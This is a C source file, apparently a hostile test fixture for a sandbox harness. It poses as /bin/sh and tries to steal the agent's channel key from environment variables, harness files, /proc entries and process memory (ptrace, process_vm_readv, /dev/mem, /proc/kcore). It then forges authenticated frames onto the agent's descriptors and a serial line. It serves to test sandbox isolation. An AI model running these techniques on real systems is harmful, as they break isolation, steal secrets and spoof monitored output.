/* A shell that is none: an image's /bin/sh that does all a program can think of to learn the key of the agent's channel and
 * to write readings of its own to it. It prints what it got as readings: `took` names where it found 32 hex digits or could
 * read the agent's memory, `opened` the agent's descriptors and lines that it could write to. Built by the test that uses it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

enum { KEYS = 64, BIG = 1 << 20 };
static uint8_t keys[KEYS][16];
static int key_count = 1;   /* the first: nothing but zeros */
static char bytes[BIG];

static int digit(char c) { return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1; }

static int is_noise(const char *where) { return strstr(where, "/proc/self") || strstr(where, "boot_id"); }

/* Exactly 32 hex digits in a row could be a key. */
static void look(const char *where, const char *text, size_t size) {
    for (size_t i = 0; i + 32 <= size; i++) {
        size_t n = 0;
        while (i + n < size && digit(text[i + n]) >= 0) n++;
        if (n == 32 && key_count < KEYS && !is_noise(where)) {
            for (int k = 0; k < 16; k++) keys[key_count][k] = (uint8_t)(digit(text[i + 2 * k]) << 4 | digit(text[i + 2 * k + 1]));
            key_count++;
            printf("took=%s:%.32s\n", where, text + i);
        }
        i += n;
    }
}

static void look_into(const char *path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) return;
    ssize_t n = read(fd, bytes, sizeof bytes);
    if (n > 0) look(path, bytes, (size_t)n);
    close(fd);
}

static void look_below(const char *folder) {
    DIR *listing = opendir(folder);
    struct dirent *entry;
    if (!listing) return;
    while ((entry = readdir(listing))) {
        char path[4096];
        if (entry->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        if (entry->d_type == DT_DIR) look_below(path);
        /* Programs hold tables of digits, which are no key. */
        else if (!strstr(path, "/agent") && !strstr(path, "/modules")) look_into(path);
    }
    closedir(listing);
}

static void look_at_processes(void) {
    DIR *listing = opendir("/proc");
    struct dirent *entry;
    if (!listing) return;
    while ((entry = readdir(listing))) {
        static const char *const files[] = {"environ", "cmdline", "auxv", "stack", "syscall"};
        char path[512];
        if (atoi(entry->d_name) <= 0) continue;
        for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, files[i]);
            look_into(path);
        }
    }
    closedir(listing);
}

static void read_memory(int agent) {
    static const uint64_t places[] = {0x200000, 0x201000, 0x202000, 0x203000, 0x204000, 0x208000, 0x210000, 0x400000};
    char path[64], word[64];
    snprintf(path, sizeof path, "/proc/%d/mem", agent);
    int fd = open(path, O_RDONLY), got = 0, vm = 0;
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        struct iovec here = {word, sizeof word}, there = {(void *)places[i], sizeof word};
        if (fd >= 0 && pread(fd, word, sizeof word, (off_t)places[i]) > 0) got = 1;
        if (process_vm_readv(agent, &here, 1, &there, 1, 0) > 0) vm = 1;
    }
    if (got) printf("took=%s\n", path);
    if (vm) printf("took=process_vm_readv\n");
    if (fd >= 0) close(fd);
    if (ptrace(PTRACE_ATTACH, agent, 0, 0) == 0) {
        printf("took=ptrace\n");
        waitpid(agent, NULL, __WALL);
        ptrace(PTRACE_DETACH, agent, 0, 0);
    }
    static const char *const devices[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"};
    for (size_t i = 0; i < sizeof devices / sizeof *devices; i++) {
        fd = open(devices[i], O_RDWR);
        if (fd < 0) fd = open(devices[i], O_RDONLY);
        if (fd >= 0 && read(fd, word, 1) > 0) printf("took=%s\n", devices[i]);
        if (fd >= 0) close(fd);
    }
    static const char *const switches[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"};
    for (size_t i = 0; i < sizeof switches / sizeof *switches; i++)
        if ((fd = open(switches[i], O_WRONLY)) >= 0) {
            printf("took=%s\n", switches[i]);
            close(fd);
        }
}

static uint64_t load64(const uint8_t *from) {
    uint64_t value;
    memcpy(&value, from, 8);
    return value;
}

#define ROTATE(x, b) ((x) << (b) | (x) >> (64 - (b)))
static void rounds(uint64_t v[4], int count) {
    while (count--) {
        v[0] += v[1]; v[1] = ROTATE(v[1], 13); v[1] ^= v[0]; v[0] = ROTATE(v[0], 32);
        v[2] += v[3]; v[3] = ROTATE(v[3], 16); v[3] ^= v[2];
        v[0] += v[3]; v[3] = ROTATE(v[3], 21); v[3] ^= v[0];
        v[2] += v[1]; v[1] = ROTATE(v[1], 17); v[1] ^= v[2]; v[2] = ROTATE(v[2], 32);
    }
}

static uint64_t tag(const uint8_t *key, const uint8_t *data, size_t size) {
    uint64_t k0 = load64(key), k1 = load64(key + 8), last = (uint64_t)size << 56;
    uint64_t v[4] = {k0 ^ 0x736f6d6570736575, k1 ^ 0x646f72616e646f6d, k0 ^ 0x6c7967656e657261, k1 ^ 0x7465646279746573};
    size_t whole = size & ~(size_t)7;
    for (size_t i = 0; i < whole; i += 8) {
        uint64_t m = load64(data + i);
        v[3] ^= m;
        rounds(v, 2);
        v[0] ^= m;
    }
    for (size_t i = whole; i < size; i++) last |= (uint64_t)data[i] << 8 * (i - whole);
    v[3] ^= last;
    rounds(v, 2);
    v[0] ^= last;
    v[2] ^= 0xff;
    rounds(v, 4);
    return v[0] ^ v[1] ^ v[2] ^ v[3];
}

static size_t add_frame(uint8_t *to, const uint8_t *key, uint32_t sequence, uint8_t kind, const void *payload, size_t size) {
    uint32_t length = (uint32_t)size + 8;
    uint8_t *body = to + 8;
    memcpy(to, "HFR1", 4);
    memcpy(to + 4, &length, 4);
    memcpy(body, &sequence, 4);
    body[4] = kind;
    body[5] = body[6] = body[7] = 0;   /* the probe of index 0 */
    memcpy(body + 8, payload, size);
    uint64_t mark = tag(key, body, length);
    memcpy(body + length, &mark, 8);
    return 8 + length + 8;
}

/* A reading and the end of the running probe, as frames 2 and 3: this is the sandbox's first probe. */
static size_t forge(uint8_t *to, const uint8_t *key) {
    static const char output[] = "\1says=forged\n";
    static const uint8_t ended[1 + 4 + 8 + 8 + 2];
    size_t size = add_frame(to, key, 2, 5, output, sizeof output - 1);
    return size + add_frame(to + size, key, 3, 6, ended, sizeof ended);
}

static void write_to(const char *path) {
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
    struct stat about, null;
    if (fd < 0) return;
    if (fstat(fd, &about) == 0 && !(stat("/dev/null", &null) == 0 && about.st_rdev == null.st_rdev && S_ISCHR(about.st_mode))) {
        printf("opened=%s\n", path);
        for (int i = key_count - 1; i >= 0; i--) {
            uint8_t frames[256];
            size_t size = forge(frames, keys[i]);
            if (write(fd, frames, size) < 0) break;
        }
    }
    close(fd);
}

int main(void) {
    int agent = getppid();
    setvbuf(stdout, NULL, _IOFBF, BIG);
    for (char **variable = environ; *variable; variable++) look("the environment", *variable, strlen(*variable));
    look_below("/.harness");
    look_at_processes();
    read_memory(1);
    if (agent != 1) read_memory(agent);
    for (int fd = 0; fd < 1024; fd++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/fd/%d", agent, fd);
        write_to(path);
    }
    write_to("/dev/ttyS1");
    /* Where root makes devices of its own, the line may be opened by another name. */
    if (mknod("/dev/line", S_IFCHR | 0600, 4 << 8 | 65) == 0) write_to("/dev/line");
    puts("says=tried");
    fflush(stdout);
    return 0;
}
